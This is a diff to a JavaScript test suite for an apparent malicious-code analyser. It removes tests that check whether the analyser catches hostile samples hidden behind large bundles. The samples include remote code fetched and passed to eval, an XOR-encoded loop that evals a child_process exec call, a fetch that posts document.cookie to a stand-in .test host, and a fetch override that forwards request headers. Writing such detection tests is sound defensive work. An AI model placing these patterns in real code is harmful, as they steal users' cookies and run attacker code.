@@ -289,63 +289,6 @@ describe('glue', () => {
   });
 });
 
-describe('behind code that is as large as a bundle', () => {
-  const bundle = Array.from(
-    { length: 2_500 },
-    (_, i) =>
-      `exports.d${i} = (s) => ({ text: atob(s), env: process.env.NODE_ENV, api: () => fetch('https://api.weir.test/v${i}') });\n`,
-  ).join('');
-
-  test('a function that runs code, handed over to be called, is followed', () => {
-    const { flow } = analyzeJs(`${bundle}fetch('https://a.weir.test/p').then((r) => r.text()).then(eval);\n`);
-    expect(flow.flows).toMatchObject([{ sink: 'code', sinkName: 'eval' }]);
-  });
-
-  test('a loop that decodes is run', () => {
-    const codes = Buffer.from('require("child_process").exec("id")').map((byte) => byte ^ 7);
-    const loop = `let s = '';\nfor (const n of [${codes.join(',')}]) s += String.fromCharCode(n ^ 7);\neval(s);\n`;
-    expect(analyzeJs(bundle + loop).codeSinks).toMatchObject([
-      { text: 'require("child_process").exec("id")' },
-    ]);
-  });
-
-  test('what an export runs is known', () => {
-    const { exportRuns } = analyzeJs(`${bundle}exports.start = () => require('child_process').exec('id');\n`);
-    expect(exportRuns?.runs.get('')?.length ?? 0).toBeGreaterThan(0);
-  });
-
-  test('what an export runs is known behind twenty thousand others', () => {
-    const { exportRuns } = analyzeJs(
-      `${bundle.repeat(8)}exports.start = () => require('child_process').exec('id');\n`,
-    );
-    expect(exportRuns?.runs.get('')?.length ?? 0).toBeGreaterThan(0);
-  });
-
-  test('exports that all run the same are told apart only as far as that stays small', () => {
-    const calls = Array.from({ length: 2_000 }, (_, i) => `function f${i}() {}\n`).join('');
-    const all = `function all() {${Array.from({ length: 2_000 }, (_, i) => `f${i}();`).join('')}}\n`;
-    const exported = Array.from({ length: 400 }, (_, i) => `exports.e${i} = all;\n`).join('');
-    const { exportRuns } = analyzeJs(calls + all + exported);
-
-    expect(exportRuns?.runs.get('')).toHaveLength(2_001);
-    expect(exportRuns?.runs.size).toBeLessThan(200);
-  });
-
-  test('what a page keeps is followed', () => {
-    const { flow } = analyzeJs(
-      `${bundle}fetch('https://a.weir.test/c', { method: 'POST', body: document.cookie });\n`,
-    );
-    expect(flow.flows).toMatchObject([{ sink: 'network' }]);
-  });
-
-  test('what a replaced function is given is followed', () => {
-    const { flow } = analyzeJs(
-      `${bundle}const real = globalThis.fetch;\nglobalThis.fetch = (url, options) => real('https://a.weir.test/h', { body: options.headers });\n`,
-    );
-    expect(flow.flows).toMatchObject([{ sink: 'network' }]);
-  });
-});
-
 describe('calls that no call names', () => {
   const act = `require('child_process').exec('id')`;
   test.each([
